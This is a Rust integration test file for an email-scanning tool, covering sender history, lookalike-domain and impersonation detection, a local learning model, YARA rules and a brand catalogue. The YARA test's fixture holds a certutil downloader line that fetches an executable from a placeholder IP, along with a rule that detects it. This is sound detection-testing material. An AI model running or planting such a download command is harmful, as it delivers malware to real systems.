//! What a site teaches outwork and what it looks up: sender history
//! (first contact, on the file store and on Redis), `learn` and its local
//! model, YARA rules, and the brand catalogue.

mod common;

use common::{bin, run, text};
use outwork_test_support::{Redis, gates, repo, temp_dir};

use std::path::{Path, PathBuf};

/// Whether redis-server is here (outwork_test_support::gates).
fn have_redis() -> bool {
    gates::check(&gates::REDIS)
}

/// A message with one attachment carrying `marker`.
fn message_with_attachment(dir: &Path, marker: &str) -> PathBuf {
    let p = dir.join("order.eml");
    let b64 = {
        // Tiny base64 so the test needs no extra dependency.
        const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let data = format!("@echo off\r\n{marker}\r\n");
        let mut out = String::new();
        for c in data.as_bytes().chunks(3) {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for i in 0..4 {
                if i <= c.len() {
                    out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    };
    std::fs::write(
        &p,
        format!(
            "From: Orders <orders@supplier.example>\r\nTo: ap@northwind.example\r\nSubject: Order 5521\r\nDate: Thu, 26 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nOrder attached.\r\n--b\r\nContent-Type: text/plain; name=\"order.txt\"\r\nContent-Disposition: attachment; filename=\"order.txt\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--b--\r\n"
        ),
    )
    .expect("write eml");
    p
}

#[cfg(not(feature = "yara"))]
#[test]
fn yara_rules_in_a_build_without_yara_is_a_clear_error() {
    let d = temp_dir("noyara");
    std::fs::write(d.join("r.yar"), "rule x { condition: true }").expect("rule");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!(
            "[inspect]\nyara_rules = \"{}\"\n",
            d.join("r.yar").display()
        ),
    )
    .expect("cfg");
    let eml = message_with_attachment(&d, "hello");
    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stdout));
    assert!(
        text(&o.stderr).contains("--features yara"),
        "{}",
        text(&o.stderr)
    );
}

#[cfg(feature = "yara")]
#[test]
fn yara_rule_fires_a_symbol_named_after_it() {
    let d = temp_dir("yara");
    let rules = d.join("rules");
    std::fs::create_dir_all(&rules).expect("mkdir");
    std::fs::write(
        rules.join("droppers.yar"),
        "rule Cmd_Downloader : dropper {\n  meta:\n    score = 7\n  strings:\n    $a = \"certutil -urlcache\" nocase\n  condition:\n    $a\n}\n",
    )
    .expect("rule");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!("[inspect]\nyara_rules = \"{}\"\n", rules.display()),
    )
    .expect("cfg");
    let eml = message_with_attachment(&d, "CertUtil -urlcache -f http://203.0.113.9/a.exe a.exe");
    let o = run(bin()
        .args(["scan", "-q", "-f", "jsonl", "--no-progress", "--config"])
        .arg(&cfg)
        .arg(&eml));
    let v: serde_json::Value = serde_json::from_str(text(&o.stdout).trim()).expect("one json line");
    let sym = v["symbols"]
        .as_array()
        .expect("symbols")
        .iter()
        .find(|s| s["name"] == "YARA_CMD_DOWNLOADER")
        .unwrap_or_else(|| panic!("no YARA symbol: {v}"));
    assert_eq!(sym["score"], 7.0);
    let ev = sym["evidence"][0].as_str().unwrap_or("");
    assert!(
        ev.contains("order.txt") && ev.contains("droppers:Cmd_Downloader [dropper]"),
        "{ev}"
    );

    // A rule that does not compile stops the scan with the file and line.
    std::fs::write(rules.join("broken.yar"), "rule b {\n condition:\n  $x\n}\n").expect("rule");
    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
    assert_eq!(o.status.code(), Some(2));
    assert!(
        text(&o.stderr).contains("broken.yar"),
        "{}",
        text(&o.stderr)
    );
}

fn vendor_mail(dir: &Path, name: &str, from: &str, display: &str, to: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(
        &p,
        format!(
            "From: \"{display}\" <{from}>\r\nTo: ap@northwind.example\r\nSubject: Statement for November\r\nDate: Thu, 26 Nov 2026 08:00:00 +0000\r\nMessage-ID: <{name}@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nHello {to}, your November statement is ready. Kind regards.\r\n"
        ),
    )
    .expect("write eml");
    p
}

/// Learn correspondents from accepted mail, then judge new senders: the
/// whole first-contact loop as an admin runs it, on the embedded store and
/// on Redis.
fn history_loop(d: &Path, store_cfg: &str) {
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!(
            "[deployment]\nprotected_domains = [\"northwind.example\"]\nvip_names = [\"Dana Whitfield\"]\n\n[history]\nenabled = true\nmin_known = 3\nknown_after = 2\nknown_days = 0\n{store_cfg}"
        ),
    )
    .expect("cfg");
    let vendors = [
        ("billing@contoso-supplies.com", "Contoso Billing"),
        ("invoices@fabrikam-freight.com", "Fabrikam"),
        ("accounts@tailspin-toys.com", "Tailspin Accounts"),
    ];
    // The first supplier has written twice before.
    for (i, (from, display)) in vendors.iter().chain(&vendors[..1]).enumerate() {
        let eml = vendor_mail(d, &format!("v{i}.eml"), from, display, "team");
        let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stdout));
    }
    let scan = |eml: &Path| -> String {
        let o = run(bin()
            .args(["scan", "-q", "-f", "jsonl", "--no-progress", "--config"])
            .arg(&cfg)
            .arg(eml));
        text(&o.stdout)
    };
    // The known supplier again: a known correspondent now.
    let again = vendor_mail(d, "again.eml", vendors[0].0, vendors[0].1, "team");
    let out = scan(&again);
    assert!(out.contains("KNOWN_CORRESPONDENT"), "{out}");
    assert!(!out.contains("FIRST_CONTACT"), "{out}");
    // One letter off the supplier's domain, never seen: the BEC shape.
    let fake = vendor_mail(
        d,
        "fake.eml",
        "billing@contoso-suppliez.com",
        "Contoso Billing",
        "team",
    );
    let out = scan(&fake);
    assert!(out.contains("FIRST_CONTACT_LOOKALIKE"), "{out}");
    assert!(
        !out.contains("contoso-supplies.com"),
        "a hash store can't name it: {out}"
    );
    // A stranger using the CFO's name.
    let vip = vendor_mail(
        d,
        "vip.eml",
        "dana.whitfield.cfo@outlook-mail.example",
        "Dana Whitfield",
        "team",
    );
    let out = scan(&vip);
    assert!(out.contains("FIRST_CONTACT_VIP_NAME"), "{out}");
    assert!(out.contains("\"FIRST_CONTACT\""), "{out}");
    // The lookalike was flagged, so it was not learned: still a lookalike.
    let out = scan(&fake);
    assert!(out.contains("FIRST_CONTACT_LOOKALIKE"), "{out}");

    let o = run(bin()
        .args([
            "history",
            "check",
            "--from",
            "billing@contoso-suppliez.com",
            "--to",
            "ap@northwind.example",
            "--config",
        ])
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("LOOKALIKE"), "{}", text(&o.stdout));
}

#[test]
fn history_first_contact_file_store() {
    let d = temp_dir("history");
    let store = d.join("history.owh");
    history_loop(&d, &format!("path = \"{}\"\n", store.display()));
    let bytes = std::fs::read(&store).expect("store written");
    assert!(!text(&bytes).contains("contoso"), "no domains in the store");
    let cfg = d.join("outwork.toml");
    let o = run(bin().args(["history", "stats", "--config"]).arg(&cfg));
    assert!(text(&o.stdout).contains("entries:"), "{}", text(&o.stdout));
    let o = run(bin()
        .args(["history", "prune", "--older-than", "0", "--config"])
        .arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).starts_with("pruned "),
        "{}",
        text(&o.stdout)
    );
}

#[test]
#[cfg_attr(
    outwork_no_redis,
    ignore = "needs redis-server (OUTWORK_REQUIRE_REDIS=1 makes this a failure)"
)]
fn history_first_contact_redis_store() {
    if !have_redis() {
        return;
    }
    let d = temp_dir("history-redis");
    let redis = Redis::start("cli");
    history_loop(&d, &format!("redis = \"{}\"\n", redis.url()));
}

/// The score and action `outwork scan` gives one file under `config`.
fn scored(config: Option<&std::path::Path>, file: &std::path::Path) -> (String, f64) {
    let mut c = bin();
    c.args(["scan", "-q", "-f", "json"]);
    if let Some(cfg) = config {
        c.arg("--config").arg(cfg);
    }
    let o = run(c.arg(file));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    (
        v["action"].as_str().unwrap_or("").to_string(),
        v["score"].as_f64().unwrap_or(f64::NAN),
    )
}

#[test]
fn learn_tunes_a_local_model_that_can_be_audited_and_undone() {
    let d = temp_dir("learn");
    let phish = repo().join("tests/cases/phish_display_name_brand.eml");
    let model = d.join("model.owml");
    let cfg = d.join("outwork.toml");
    std::fs::write(&cfg, format!("[model]\npath = \"{}\"\n", model.display())).expect("write");
    let (_, before) = scored(None, &phish);
    let o = run(bin()
        .args(["learn", "--phish"])
        .arg(&phish)
        .arg("-o")
        .arg(&model));
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let (action, after) = scored(Some(&cfg), &phish);
    assert!(after > before + 0.5, "reported phish: {before} → {after}");
    assert_ne!(action, "accept");
    // Auditable: one log line per message learned, and model info says so.
    let log = std::fs::read_to_string(d.join("model.owml.log.jsonl")).expect("log");
    assert_eq!(log.lines().count(), 1);
    assert!(log.contains("\"label\":\"phish\""));
    let o = run(bin().args(["model", "info", "--config"]).arg(&cfg));
    assert!(String::from_utf8_lossy(&o.stdout).contains("1 phish and 0 ham"));
    // A second batch (as ham) keeps the first as .prev; --undo restores it.
    let o = run(bin()
        .args(["learn", "--ham"])
        .arg(&phish)
        .arg("-o")
        .arg(&model));
    assert_eq!(o.status.code(), Some(0));
    let (_, as_ham) = scored(Some(&cfg), &phish);
    assert!(as_ham < after, "{as_ham} < {after}");
    let o = run(bin().args(["learn", "--undo", "-o"]).arg(&model));
    assert_eq!(o.status.code(), Some(0));
    let (_, undone) = scored(Some(&cfg), &phish);
    assert!((undone - after).abs() < 1e-9, "{undone} vs {after}");
}

#[test]
fn brands_lookup_claims_and_stats() {
    // A disguised regional brand resolves to its catalogue entry.
    let o = run(bin().args(["brands", "lookup", "TF-Bank"]));
    let out = text(&o.stdout);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("TF Bank") && out.contains("tfbank.de"),
        "{out}"
    );
    let o = run(bin().args(["brands", "lookup", "tk.de"]));
    assert!(text(&o.stdout).contains("Techniker Krankenkasse"));
    let o = run(bin().args(["brands", "lookup", "Ｐａｙｐａｌ"]));
    assert!(text(&o.stdout).contains("disguised"), "{}", text(&o.stdout));
    let o = run(bin().args(["brands", "lookup", "nothing-like-a-brand-xyz"]));
    assert_eq!(o.status.code(), Some(1));

    // Claims: where each brand was claimed and what fires.
    let cases = repo().join("tests/cases");
    let o = run(bin()
        .args(["brands", "claims"])
        .arg(cases.join("phish_brand_invisible_chars.eml"))
        .arg(cases.join("legit_brand_forwarded_receipt.eml")));
    let out = text(&o.stdout);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("HTML title") && out.contains("(disguised)"),
        "{out}"
    );
    assert!(
        out.contains("fires: BRAND_IMPERSONATION, BRAND_DISGUISED"),
        "{out}"
    );
    assert!(out.contains("a forward"), "{out}");
    assert!(
        out.contains("2 messages; 2 (100.0%) claim a catalogued brand; 1 of those (50.0%)"),
        "{out}"
    );

    let o = run(bin().args(["brands", "stats"]));
    let out = text(&o.stdout);
    assert!(
        out.contains("brands,") && out.contains("by sector:"),
        "{out}"
    );
}
